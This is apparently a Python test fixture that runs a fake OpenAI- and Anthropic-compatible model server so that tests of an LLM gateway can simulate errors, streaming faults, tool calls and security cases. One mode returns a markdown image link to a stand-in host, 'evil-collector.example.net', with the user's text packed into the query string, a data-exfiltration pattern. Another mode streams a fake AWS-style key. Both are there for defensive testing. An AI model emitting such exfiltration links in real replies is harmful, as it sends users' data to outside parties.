"""A fake model provider over real HTTP: OpenAI- and Anthropic-compatible endpoints.

It runs an aiohttp server on its own thread and loop. Its behaviour is chosen by
the ``model`` a request names (``gpt-ok``, ``gpt-tools``, ``gpt-flaky``...), and it
records every body it receives so tests can prove what left the gateway.
"""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections import Counter
from typing import Any

from aiohttp import web

ANSWER_PREFIX = "upstream says: "
# A credential the answer introduces (never in any prompt), then enough words to keep streaming.
LEAKED_KEY = "AKIAQ3XW7RZP5KTN2M4B"
LEAK_TEXT = "Sure. The deploy key is " + LEAKED_KEY + " and " + " ".join(["more"] * 120)
EXFIL_DOMAIN = "evil-collector.example.net"


def answer_text(model: str, user_text: str) -> str:
    if model.endswith("-leak"):
        return LEAK_TEXT
    if model.endswith("-exfil"):
        return f"Done. ![status](https://{EXFIL_DOMAIN}/c.png?d={user_text.replace(' ', '+')})"
    return ANSWER_PREFIX + user_text


def _tool_arguments(model: str, user_text: str) -> str:
    if model.endswith("-toolecho"):
        return json.dumps({"query": user_text})
    return '{"city": "Paris"}'


def _last_user_text(messages: list[dict[str, Any]]) -> str:
    for message in reversed(messages):
        if message.get("role") != "user":
            continue
        content = message.get("content")
        if isinstance(content, str):
            return content
        texts = [b.get("text", "") for b in content or [] if b.get("type") == "text"]
        return "".join(texts)
    return ""


class FakeUpstream:
    def __init__(self) -> None:
        self.received: list[dict[str, Any]] = []
        self.headers: list[dict[str, str]] = []
        self.calls: Counter[str] = Counter()
        self.disconnects: list[str] = []
        self.port = 0
        self.stream_delay = 0.0  # seconds between streamed words
        self._loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._runner: web.AppRunner | None = None
        self._thread = threading.Thread(target=self._run, daemon=True, name="fake-upstream")

    # --- lifecycle -----------------------------------------------------
    def start(self) -> FakeUpstream:
        self._thread.start()
        if not self._ready.wait(10):
            raise RuntimeError("fake upstream did not start")
        return self

    def stop(self) -> None:
        async def shutdown() -> None:
            if self._runner is not None:
                await self._runner.cleanup()

        asyncio.run_coroutine_threadsafe(shutdown(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)
        app = web.Application(client_max_size=16 * 1024 * 1024)
        app.router.add_post("/v1/chat/completions", self._openai_chat)
        app.router.add_post("/v1/embeddings", self._openai_embeddings)
        app.router.add_post("/v1/messages", self._anthropic_messages)
        self._runner = web.AppRunner(app, handle_signals=False)
        self._loop.run_until_complete(self._runner.setup())
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        self._loop.run_until_complete(site.start())
        server = site._server
        assert server is not None
        self.port = server.sockets[0].getsockname()[1]  # type: ignore[attr-defined]
        self._ready.set()
        self._loop.run_forever()

    @property
    def openai_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    @property
    def anthropic_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def bodies(self, model: str) -> list[dict[str, Any]]:
        return [b for b in list(self.received) if b.get("model") == model]

    # --- shared behaviours --------------------------------------------
    async def _record(self, request: web.Request) -> dict[str, Any]:
        body: dict[str, Any] = await request.json()
        self.received.append(body)
        self.headers.append(dict(request.headers))
        self.calls[str(body.get("model"))] += 1
        return body

    async def _misbehave(self, model: str) -> web.StreamResponse | None:
        count = self.calls[model]
        if model.endswith("-500") or (model.endswith("-flaky") and count % 2 == 1):
            return web.json_response({"error": {"message": "boom", "type": "server"}}, status=500)
        if model.endswith("-429") and count % 2 == 1:
            return web.json_response({"error": {"message": "slow down"}}, status=429)
        if model.endswith("-400"):
            return web.json_response(
                {"error": {"message": "max_tokens is too large", "type": "invalid_request_error"}},
                status=400,
            )
        if model.endswith("-slow"):
            await asyncio.sleep(5)
        if model.endswith("-garbage"):
            return web.Response(text="<html>definitely not json</html>", content_type="text/html")
        return None

    # --- OpenAI --------------------------------------------------------
    async def _openai_chat(self, request: web.Request) -> web.StreamResponse:
        body = await self._record(request)
        model = str(body["model"])
        if (bad := await self._misbehave(model)) is not None:
            return bad
        user_text = _last_user_text(body["messages"])
        text = answer_text(model, user_text)
        n = int(body.get("n") or 1)
        tools = model.endswith(("-tools", "-toolecho"))
        if body.get("stream"):
            return await self._openai_stream(request, body, text, tools, user_text)
        choices = []
        for i in range(n):
            message: dict[str, Any] = {"role": "assistant", "content": None if tools else text}
            if tools:
                message["tool_calls"] = [
                    {
                        "id": "call_abc123",
                        "type": "function",
                        "function": {
                            "name": "get_weather",
                            "arguments": _tool_arguments(model, user_text),
                        },
                    }
                ]
            choices.append(
                {"index": i, "message": message, "finish_reason": "tool_calls" if tools else "stop"}
            )
        return web.json_response(
            {
                "id": "chatcmpl-fake",
                "object": "chat.completion",
                "created": int(time.time()),
                "model": model,
                "choices": choices,
                "usage": {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18},
            }
        )

    async def _openai_stream(
        self, request: web.Request, body: dict[str, Any], text: str, tools: bool, user_text: str
    ) -> web.StreamResponse:
        model = str(body["model"])
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)

        async def send(chunk: dict[str, Any]) -> None:
            chunk = {
                "id": "chatcmpl-fake",
                "object": "chat.completion.chunk",
                "model": model,
                **chunk,
            }
            await response.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")

        try:
            await send({"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]})
            if model.endswith("-hang"):
                await send({"choices": [{"index": 0, "delta": {"content": "first "}}]})
                for _ in range(200):  # until the gateway hangs up on us
                    await asyncio.sleep(0.05)
                    await response.write(b": keep-alive\n\n")
                return response
            if model.endswith("-midfail"):
                await send({"choices": [{"index": 0, "delta": {"content": "partial "}}]})
                await response.write(b"data: {broken json\n\n")
                return response
            if tools:
                first = {"index": 0, "id": "call_abc123", "type": "function"}
                arguments = _tool_arguments(model, user_text)
                pieces = [arguments[i : i + 5] for i in range(0, len(arguments), 5)]
                await send(
                    {
                        "choices": [
                            {
                                "index": 0,
                                "delta": {
                                    "tool_calls": [
                                        {
                                            **first,
                                            "function": {"name": "get_weather", "arguments": ""},
                                        }
                                    ]
                                },
                            }
                        ]
                    }
                )
                for piece in pieces:
                    delta = {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}
                    await send({"choices": [{"index": 0, "delta": delta}]})
                finish = "tool_calls"
            else:
                delay = 0.01 if model.endswith("-leak") else self.stream_delay
                if model.endswith("-chars"):  # tiny chunks split placeholders anywhere
                    pieces = [text[i : i + 3] for i in range(0, len(text), 3)]
                else:
                    pieces = [word + " " for word in text.split(" ")]
                for piece in pieces:
                    await send({"choices": [{"index": 0, "delta": {"content": piece}}]})
                    if delay:
                        await asyncio.sleep(delay)
                finish = "stop"
            await send({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
            if (body.get("stream_options") or {}).get("include_usage"):
                usage = {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}
                await send({"choices": [], "usage": usage})
            await response.write(b"data: [DONE]\n\n")
        except (ConnectionResetError, asyncio.CancelledError):
            self.disconnects.append(model)  # the gateway hung up on us
        return response

    async def _openai_embeddings(self, request: web.Request) -> web.StreamResponse:
        body = await self._record(request)
        inputs = body["input"] if isinstance(body["input"], list) else [body["input"]]
        data = [
            {"object": "embedding", "index": i, "embedding": [0.1 * (i + 1), 0.2, 0.3]}
            for i in range(len(inputs))
        ]
        return web.json_response(
            {
                "object": "list",
                "data": data,
                "model": body["model"],
                "usage": {"prompt_tokens": 5, "total_tokens": 5},
            }
        )

    # --- Anthropic -----------------------------------------------------
    async def _anthropic_messages(self, request: web.Request) -> web.StreamResponse:
        body = await self._record(request)
        model = str(body["model"])
        if (bad := await self._misbehave(model)) is not None:
            return bad
        text = answer_text(model, _last_user_text(body["messages"]))
        tools = model.endswith("-tools")
        if body.get("stream"):
            return await self._anthropic_stream(request, model, text, tools)
        content: list[dict[str, Any]] = (
            [
                {"type": "text", "text": "Let me check."},
                {
                    "type": "tool_use",
                    "id": "toolu_01",
                    "name": "get_weather",
                    "input": {"city": "Paris"},
                },
            ]
            if tools
            else [{"type": "text", "text": text}]
        )
        return web.json_response(
            {
                "id": "msg_fake",
                "type": "message",
                "role": "assistant",
                "model": model,
                "content": content,
                "stop_reason": "tool_use" if tools else "end_turn",
                "stop_sequence": None,
                "usage": {"input_tokens": 13, "output_tokens": 9},
            }
        )

    async def _anthropic_stream(
        self, request: web.Request, model: str, text: str, tools: bool
    ) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)

        async def send(kind: str, data: dict[str, Any]) -> None:
            payload = {"type": kind, **data}
            await response.write(f"event: {kind}\ndata: {json.dumps(payload)}\n\n".encode())

        message: dict[str, Any] = {
            "id": "msg_fake",
            "type": "message",
            "role": "assistant",
            "model": model,
            "content": [],
            "stop_reason": None,
            "stop_sequence": None,
            "usage": {"input_tokens": 13, "output_tokens": 1},
        }
        await send("message_start", {"message": message})
        await send(
            "content_block_start", {"index": 0, "content_block": {"type": "text", "text": ""}}
        )
        words = ["Let me check."] if tools else text.split(" ")
        for word in words:
            delta = {"type": "text_delta", "text": word + ("" if tools else " ")}
            await send("content_block_delta", {"index": 0, "delta": delta})
        await send("content_block_stop", {"index": 0})
        if tools:
            block = {"type": "tool_use", "id": "toolu_01", "name": "get_weather", "input": {}}
            await send("content_block_start", {"index": 1, "content_block": block})
            for piece in ['{"city"', ': "Paris"}']:
                delta = {"type": "input_json_delta", "partial_json": piece}
                await send("content_block_delta", {"index": 1, "delta": delta})
            await send("content_block_stop", {"index": 1})
        stop = "tool_use" if tools else "end_turn"
        await send(
            "message_delta",
            {"delta": {"stop_reason": stop, "stop_sequence": None}, "usage": {"output_tokens": 9}},
        )
        await send("message_stop", {})
        return response
